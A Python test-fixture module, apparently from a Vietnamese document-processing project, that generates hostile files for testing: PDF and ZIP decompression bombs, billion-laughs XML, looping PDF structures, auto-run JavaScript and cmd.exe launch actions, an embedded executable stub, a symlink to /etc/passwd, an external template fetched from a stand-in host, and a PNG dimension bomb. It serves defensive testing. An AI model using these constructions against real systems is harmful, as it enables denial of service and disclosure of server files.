"""Hostile files, made when asked for: nothing dangerous lies in the repository.

Each is small; what it would become is large, loops, runs, or pretends to be something else.
"""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image, ImageDraw, ImageFont

from congvu.kit.typeset import font_folder

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def pdf_with(change: Callable[[Pdf], None] | None = None, **saving: object) -> bytes:
    """A PDF of one page, changed."""
    out = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page(page_size=(595, 842))
        if change is not None:
            change(made)
        made.save(out, **saving)
    return out.getvalue()


def written(content: bytes) -> bytes:
    """A PDF whose page has this content stream, packed as given."""
    return pdf_with(lambda pdf: pdf.pages[0].__setattr__("Contents", Stream(pdf, content)))


def content_bomb() -> bytes:
    """256 MB of drawing in a few hundred kilobytes."""
    return written(b"q Q\n" * (1 << 26))


def double_flate() -> bytes:
    """A gigabyte under two layers of compression: a parser that unpacks it dies."""
    packer, pieces = zlib.compressobj(9), []
    for _ in range(1024):
        pieces.append(packer.compress(b"\0" * (1 << 20)))
    inner = zlib.compress(b"".join(pieces) + packer.flush(), 9)

    def change(pdf: Pdf) -> None:
        stream = Stream(pdf, b"")
        stream.write(inner, filter=Array([Name.FlateDecode, Name.FlateDecode]))
        pdf.pages[0].Contents = stream

    return pdf_with(change)


def huge_picture() -> bytes:
    """30,000 by 30,000 dots of nothing on a page."""

    def change(pdf: Pdf) -> None:
        picture = Stream(pdf, b"")
        picture.write(zlib.compress(b"\0" * 4_500_000, 9), filter=Name.FlateDecode)
        for key, value in {
            "/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 30_000, "/Height": 30_000,
            "/BitsPerComponent": 1, "/ColorSpace": Name.DeviceGray,
        }.items():  # fmt: skip
            picture[key] = value
        pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=pdf.make_indirect(picture)))
        pdf.pages[0].Contents = Stream(pdf, b"595 0 0 842 0 0 cm /Im0 Do")

    return pdf_with(change)


def raw_pdf(*objects: bytes, root: int = 1) -> bytes:
    """A PDF written by hand, with a right table of places."""
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(objects) + 1
    return body + (
        b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF"
        % (count, table, count, root, len(body))
    )


def deep_arrays() -> bytes:
    """Arrays in arrays, a hundred thousand deep."""
    nested = b"[" * 100_000 + b"]" * 100_000
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R/Deep %s>>" % nested,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    )


def looping_pages() -> bytes:
    """A tree of pages that is its own child."""
    return raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>")


def looping_table() -> bytes:
    """A table of places whose former version is itself."""
    whole = looping_pages()
    start = int(whole.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    return whole.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % start)


def scripted(action: str) -> bytes:
    """A PDF that wants to do something when it is opened."""

    def change(pdf: Pdf) -> None:
        actions = {
            "javascript": Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")),
            "launch": Dictionary(S=Name.Launch, F=String("cmd.exe")),
            "uri": Dictionary(S=Name.URI, URI=String("http://xau.example/")),
        }
        pdf.Root.OpenAction = actions[action]

    return pdf_with(change)


def with_attachment(name: str = "cai-dat.exe") -> bytes:
    """A PDF that carries another file: a program unless told otherwise."""
    return pdf_with(lambda pdf: pdf.attachments.__setitem__(name, b"MZ\x90\0"))


def with_xfa() -> bytes:
    """A PDF form of the kind that brings its own program."""
    return pdf_with(
        lambda pdf: pdf.Root.__setattr__(
            "AcroForm", Dictionary(XFA=Stream(pdf, b"<xdp/>"), Fields=Array([]))
        )
    )


def office(
    kind: str = "docx", body: str = "<w:p><w:r><w:t>Nội dung</w:t></w:r></w:p>", **more: bytes
) -> bytes:
    """A small DOCX or XLSX; `more` are further parts, "__" for "/" and "_DOT_" for "."."""
    main = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}[kind]
    xml = f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'
    return packed(
        {
            "[Content_Types].xml": b"<Types/>",
            main: xml.encode() if kind == "docx" else body.encode(),
            **{k.replace("__", "/").replace("_DOT_", "."): v for k, v in more.items()},
        }
    )


def packed(parts: Mapping[str, bytes]) -> bytes:
    """A ZIP of these parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def zip_bomb() -> bytes:
    """500 MB of zeros as the text of a document."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", b"<Types/>")
        with made.open("word/document.xml", "w") as part:
            for _ in range(500):
                part.write(b"\0" * (1 << 20))
    return out.getvalue()


def many_entries() -> bytes:
    """Six thousand parts."""
    return packed({"word/document.xml": b"<a/>", **{f"word/{n}.xml": b"" for n in range(6000)}})


def symlink() -> bytes:
    """A packed link to a file of the server."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("word/document.xml", "<a/>")
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        made.writestr(link, "/etc/passwd")
    return out.getvalue()


def lying_sizes() -> bytes:
    """A part that says it is small and is not."""
    whole = bytearray(office(body="<w:p/>" * 200_000))
    place = whole.rfind(b"PK\x01\x02", 0, whole.rfind(b"word/document.xml"))
    whole[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(whole)


def entities() -> bytes:
    """A billion laughs in a text."""
    laughs = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    xml = f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]><d>&l9;</d>'
    return packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": xml.encode()})


def outside_template(kind: str = "attachedTemplate") -> bytes:
    """A text that fetches its template from elsewhere when it is opened (or has a plain link)."""
    link = (
        f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" Type="{RELATIONS}/{kind}"'
        ' Target="http://xau.example/a.dotm" TargetMode="External"/></Relationships>'
    )
    return office(word___rels__settings_DOT_xml_DOT_rels=link.encode())


def png(width: int = 40, height: int = 40) -> bytes:
    """A white picture."""
    out = io.BytesIO()
    Image.new("L", (width, height), 255).save(out, "PNG")
    return out.getvalue()


def picture_bomb() -> bytes:
    """A picture that says it has ten billion dots."""
    head = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 0, 0, 0, 0)
    chunk = b"IHDR" + head
    made = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + chunk
    return made + struct.pack(">I", zlib.crc32(chunk)) + b"\0\0\0\0IEND\xaeB`\x82"


def scan(
    stamp: str = "", *, ink: str = "#c81e1e", tilt: float = 2.0, at: tuple[int, int] = (150, 230)
) -> bytes:
    """A scanned page as a picture at 200 dots per inch, with a framed stamp at its top left."""
    page = Image.new("RGB", (1654, 2339), "white")
    pen = ImageDraw.Draw(page)
    small = ImageFont.truetype(str(font_folder() / "Tinos-Regular.ttf"), 38)
    for line, words in enumerate(("UBND TỈNH PHÚ YÊN", "SỞ NỘI VỤ", "Số: 12/BC-SNV")):
        pen.text((140, 90 + 44 * line), words, "black", small)
    for line in range(20):
        pen.text(
            (140, 800 + 60 * line), "Nội dung báo cáo công tác năm của cơ quan.", "black", small
        )
    if stamp:
        font = ImageFont.truetype(str(font_folder() / "Tinos-Bold.ttf"), 60)
        width = int(font.getlength(stamp)) + 60
        mark = Image.new("RGBA", (width, 110), (0, 0, 0, 0))
        drawn = ImageDraw.Draw(mark)
        drawn.rectangle((3, 3, width - 4, 106), outline=ink, width=5)
        drawn.text((30, 16), stamp, ink, font)
        mark = mark.rotate(tilt, expand=True, resample=Image.Resampling.BICUBIC)
        page.paste(mark, at, mark)
    out = io.BytesIO()
    page.save(out, "PNG")
    return out.getvalue()


def scanned_pdf(picture: bytes) -> bytes:
    """A PDF of one scanned page."""
    with Image.open(io.BytesIO(picture)) as page:
        out = io.BytesIO()
        page.convert("RGB").save(out, "PDF", resolution=200)
    return out.getvalue()
